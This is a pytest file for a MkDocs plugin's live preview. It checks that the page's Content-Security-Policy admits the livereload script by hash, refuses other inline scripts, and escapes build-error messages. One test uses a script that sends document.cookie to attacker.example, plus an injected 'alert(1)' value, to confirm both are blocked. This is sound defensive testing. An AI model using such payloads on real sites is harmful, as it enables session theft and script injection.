"""The live preview's page filter: which inline script it admits, and the build-error notice."""

from __future__ import annotations

import base64
import hashlib

from mkdocs.livereload import _SCRIPT_TEMPLATE

from policypress.mkdocs_plugin.preview import preview_page
from policypress.render.csp import add_content_security_policy

PAGE = "<html><head><title>t</title></head><body><p>text</p></body></html>"


def _hash(body: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() + "'"


def _served(extra_script: str) -> str:
    published = add_content_security_policy(PAGE, known=())
    return published.replace("</body>", f"<script>{extra_script}</script></body>")


def test_mkdocs_reload_script_is_admitted_by_its_hash() -> None:
    reload = _SCRIPT_TEMPLATE.substitute(epoch=1730419200123, request_id=1730419200456)
    page = preview_page(_served(reload), ())
    policy = page.split('content="', 1)[1].split('"', 1)[0]
    assert f"script-src 'self' {_hash(reload)};" in policy
    assert _hash(reload) not in add_content_security_policy(PAGE, known=())  # the published page never


def test_any_other_inline_script_stays_refused() -> None:
    other = "fetch('https://attacker.example/'+document.cookie)"
    page = preview_page(_served(other), ())
    assert _hash(other) not in page
    altered = _SCRIPT_TEMPLATE.substitute(epoch="1; alert(1)", request_id=2)
    assert _hash(altered) not in preview_page(_served(altered), ())


def test_the_build_error_notice_names_the_place_and_escapes_the_message() -> None:
    problems = ["invalid policy sources:\npolicy/a.yaml:3:17: effective_date: <b>bad</b> [schema.date]"]
    page = preview_page(PAGE, problems)
    body = page.split("<body>", 1)[1]
    assert body.startswith('<div id="policypress-build-error" class="build-error" role="alert"')
    assert '<code class="build-error-where">policy/a.yaml:3:17</code> effective_date: &lt;b&gt;bad&lt;/b&gt;' in body
    assert preview_page(PAGE, ()) == PAGE
